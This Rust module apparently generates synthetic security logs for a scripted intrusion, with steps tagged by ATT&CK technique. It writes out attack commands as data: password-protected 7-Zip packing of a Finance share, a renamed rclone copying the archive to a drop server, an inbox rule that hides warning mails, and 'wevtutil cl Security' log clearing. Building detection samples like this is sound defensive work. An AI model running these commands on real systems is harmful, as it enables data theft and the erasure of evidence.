//! Files packed and carried off, the mailbox and the cloud files read, the log cleared.

use super::delivery::connection;
use super::{CLOUD_IP, DROP_IP, DROP_NAME, Story};
use crate::sample::SampleError;
use crate::sample::cell::Cell;
use crate::sample::clock::Ticks;
use crate::sample::company::TENANT;
use crate::sample::process::Process;
use serde_json::json;

/// Connections of the upload, and files read from the cloud.
const UPLOADS: usize = 12;
const DOWNLOADS: usize = 36;

/// Begins with the shell on the file server.
pub(super) fn tell<'w>(story: &mut Story<'w>, shell: &Process<'w>) -> Result<(), SampleError> {
    pack(story, shell)?;
    carry_off(story, shell)?;
    read_the_cloud(story)?;
    clear_the_log(story, shell)
}

fn pack<'w>(story: &mut Story<'w>, shell: &Process<'w>) -> Result<(), SampleError> {
    let server = story.server;
    let time = story.at(210.0);
    story.step(time, "T1560.001", "the share Finance is packed, with a password, in three parts");
    let command = concat!(
        "\"C:\\Program Files\\7-Zip\\7z.exe\" a -t7z -mx1 -v512m -mhe=on -p******** ",
        "D:\\Shares\\~tmp\\q3.7z D:\\Shares\\Finance"
    );
    let packer = story.start(server, shell, "7z.exe", command, time, |_| {})?;
    for part in 1..=3 {
        story.on(server, &packer);
        let name = format!("q3.7z.{part:03}");
        story.file(&name);
        let time = story.at(211.0 + f64::from(part));
        story.row(
            "DeviceFileEvents",
            time,
            &[
                ("ActionType", Cell::text("FileCreated")),
                ("FileName", Cell::text(&name)),
                ("FolderPath", Cell::text(format!("D:\\Shares\\~tmp\\{name}"))),
                ("RequestProtocol", Cell::text("Local")),
                ("AdditionalFields", Cell::text(r#"{"FileType":"SevenZip"}"#)),
            ],
        )?;
    }
    Ok(())
}

fn carry_off<'w>(story: &mut Story<'w>, shell: &Process<'w>) -> Result<(), SampleError> {
    let server = story.server;
    story.on(server, shell);
    story.file("rclone.exe");
    let time = story.at(248.0);
    story.row(
        "DeviceFileEvents",
        time,
        &[
            ("ActionType", Cell::text("FileCreated")),
            ("FileName", Cell::text("syncsvc.exe")),
            ("FolderPath", Cell::text("C:\\ProgramData\\SyncSvc\\syncsvc.exe")),
            ("RequestProtocol", Cell::text("Local")),
            ("AdditionalFields", Cell::text(r#"{"FileType":"PortableExecutable"}"#)),
        ],
    )?;
    let time = story.at(250.0);
    story.step(time, "T1567.002", format!("rclone, renamed syncsvc.exe, copies the parts to {DROP_NAME}"));
    let command =
        "C:\\ProgramData\\SyncSvc\\syncsvc.exe copy D:\\Shares\\~tmp dv:in --transfers 4 --no-check-certificate -q";
    let copier = story.start(server, shell, "syncsvc.exe", command, time, |_| {})?;
    story.on(server, &copier);
    for number in 0..UPLOADS {
        let drift = story.scene.dice.between(0, 150) as f64 / 100.0;
        let time = story.at(250.1 + 3.0 * number as f64 + drift);
        let upload = connection(DROP_NAME, DROP_IP, 443, &mut story.scene.dice);
        story.row("DeviceNetworkEvents", time, &upload)?;
    }
    Ok(())
}

fn read_the_cloud(story: &mut Story<'_>) -> Result<(), SampleError> {
    let person = story.person;
    let time = story.at(180.0);
    story.step(time, "T1078.004", format!("mira.okafor's account is used from {CLOUD_IP}"));
    story.row(
        "IdentityLogonEvents",
        time,
        &[
            ("Application", Cell::text("Microsoft 365")),
            ("ActionType", Cell::text("LogonSuccess")),
            ("LogonType", Cell::text("OAuth2:Token")),
            ("AccountDisplayName", person.display.clone()),
            ("AccountUpn", person.account.upn.clone()),
            ("AccountName", person.account.name.clone()),
            ("AccountObjectId", person.account.object_id.clone()),
            ("IPAddress", Cell::text(CLOUD_IP)),
            ("Location", Cell::text("NL")),
            ("OSPlatform", Cell::text("Linux")),
            ("DeviceType", Cell::text("Desktop")),
            ("ISP", Cell::text("quickhost vps")),
            ("UncommonForUser", Cell::json(r#"["ISP","CountryCode","IPAddress","OSPlatform"]"#)),
            (
                "LastSeenForUser",
                Cell::json(concat!(
                    r#"{"ActionType":0,"OSPlatform":-1,"ISP":-1,"UserAgent":-1,"CountryCode":-1,"IPAddress":-1,"#,
                    r#""Application":0}"#
                )),
            ),
            (
                "AdditionalFields",
                Cell::json(concat!(
                    r#"{"ARG.CLOUD_SERVICE":"Office 365 Exchange Online","#,
                    r#""Request ID":"0f5cbb0e-3a7f-4e1e-8a55-5f1d0a9d2c10","#,
                    r#""Pass-through authentication":"false"}"#
                )),
            ),
        ],
    )?;
    let time = story.at(183.0);
    story.step(time, "T1564.008", "an inbox rule hides the mails that would warn");
    let rule = json!({
        "CreationTime": time.cut(0).to_text(), "Operation": "New-InboxRule", "OrganizationId": TENANT, "RecordType": 1,
        "ResultStatus": "True", "Workload": "Exchange", "ClientIP": format!("{CLOUD_IP}:41822"),
        "UserId": "mira.okafor@larkspur.example",
        "Parameters": [
            { "Name": "Name", "Value": "." },
            { "Name": "SubjectOrBodyContainsWords", "Value": "harborline;invoice;phish;security" },
            { "Name": "MoveToFolder", "Value": "RSS Feeds" },
            { "Name": "MarkAsRead", "Value": "True" },
            { "Name": "StopProcessingRules", "Value": "True" },
        ],
    });
    cloud_row(
        story,
        time,
        "New-InboxRule",
        ("Microsoft Exchange Online", 20_893),
        "mira.okafor@larkspur.example\\.",
        rule,
    )?;
    for number in 0..DOWNLOADS {
        let time = story.at(200.0 + 0.8 * number as f64);
        if number == 0 {
            story.step(time, "T1530", format!("{DOWNLOADS} files are read from SharePoint"));
        }
        let name = format!("Payment run {:02}.xlsx", number + 1);
        let object = format!("https://larkspur.sharepoint.com/sites/finance/Shared Documents/{name}");
        let event = json!({
            "CreationTime": time.cut(0).to_text(), "Operation": "FileDownloaded", "OrganizationId": TENANT,
            "RecordType": 6, "Workload": "SharePoint", "ClientIP": CLOUD_IP, "UserId": "mira.okafor@larkspur.example",
            "SourceFileName": name, "SourceFileExtension": "xlsx", "FileSizeBytes": 40_000 + number * 977,
        });
        cloud_row(story, time, "FileDownloaded", ("Microsoft SharePoint Online", 20_892), &object, event)?;
    }
    Ok(())
}

fn cloud_row(
    story: &mut Story<'_>,
    at: Ticks,
    action: &str,
    (application, id): (&str, u32),
    object: &str,
    raw: serde_json::Value,
) -> Result<(), SampleError> {
    let person = story.person;
    let columns = [
        ("Application", Cell::text(application)),
        ("ApplicationId", Cell::json(id)),
        ("ActionType", Cell::text(action)),
        ("ActivityType", Cell::text(if action == "FileDownloaded" { "Download" } else { "Basic" })),
        ("AccountDisplayName", person.display.clone()),
        ("AccountObjectId", person.account.object_id.clone()),
        ("AccountType", Cell::text("Regular")),
        ("DeviceType", Cell::text("Desktop")),
        ("OSPlatform", Cell::text("Linux")),
        ("IPAddress", Cell::text(CLOUD_IP)),
        ("CountryCode", Cell::text("NL")),
        ("City", Cell::text("amsterdam")),
        ("ISP", Cell::text("quickhost vps")),
        ("UserAgent", Cell::text("python-requests/2.32.5")),
        ("IsAdminOperation", Cell::json(false)),
        ("ObjectName", Cell::text(object)),
        ("ObjectType", Cell::text(if action == "FileDownloaded" { "File" } else { "Structured object" })),
        ("IPTags", Cell::json("[]")),
        ("UncommonForUser", Cell::json(r#"["ISP","CountryCode","IPAddress","UserAgent"]"#)),
        ("LastSeenForUser", Cell::json(r#"{"ActionType":-1,"ISP":-1,"IPAddress":-1,"Application":0}"#)),
        ("ActivityObjects", Cell::json("[]")),
        ("AdditionalFields", Cell::json(r#"{"IsSatelliteProvider":false}"#)),
        ("RawEventData", Cell::json(raw)),
    ];
    story.row("CloudAppEvents", at, &columns)
}

fn clear_the_log<'w>(story: &mut Story<'w>, shell: &Process<'w>) -> Result<(), SampleError> {
    let server = story.server;
    let time = story.at(420.0);
    story.step(time, "T1070.001", "the security log of srv-file01 is cleared");
    let cleaner = story.start(server, shell, "wevtutil.exe", "wevtutil cl Security", time, |_| {})?;
    story.on(server, &cleaner);
    let row = [("ActionType", Cell::text("SecurityLogCleared")), ("AdditionalFields", Cell::text("{}"))];
    story.row("DeviceEvents", time.plus(Ticks::SECOND), &row)
}
